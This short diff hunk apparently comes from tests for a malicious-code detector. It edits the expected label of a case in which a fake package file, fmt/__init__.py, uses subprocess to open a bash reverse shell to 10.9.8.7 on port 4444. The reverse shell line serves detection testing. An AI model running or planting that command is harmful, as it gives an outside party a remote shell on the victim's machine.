@@ -365,7 +365,7 @@ requests.sessions.Session = Session
         {
             "fmt/__init__.py": 'import subprocess\nsubprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/10.9.8.7/4444 0>&1"])\n'
         },
-        "starts a shell",
+        "starts a remote shell",
     ),
     "an address that is hidden": (
         {
